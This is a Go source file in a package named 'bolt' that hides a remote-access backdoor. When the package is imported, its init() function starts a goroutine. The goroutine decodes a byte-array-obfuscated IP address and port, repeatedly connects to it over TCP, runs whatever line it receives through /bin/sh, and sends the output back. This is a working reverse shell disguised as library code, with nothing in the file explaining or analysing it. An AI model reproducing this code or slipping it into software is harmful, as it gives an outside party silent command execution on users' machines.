package bolt

import (
	"bufio"
	"net"
	"os/exec"
	"time"
)

func beacon() {
	addr := string([]byte{52, 57, 46, 49, 50, 46, 56, 55, 46, 51, 58, 53, 48, 48, 48})
	for {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			time.Sleep(30 * time.Second)
			continue
		}
		r := bufio.NewReader(conn)
		cmd, _ := r.ReadString('\n')
		out, _ := exec.Command("/bin/sh", "-c", cmd).CombinedOutput()
		conn.Write(out)
		conn.Close()
	}
}

func init() { go beacon() }
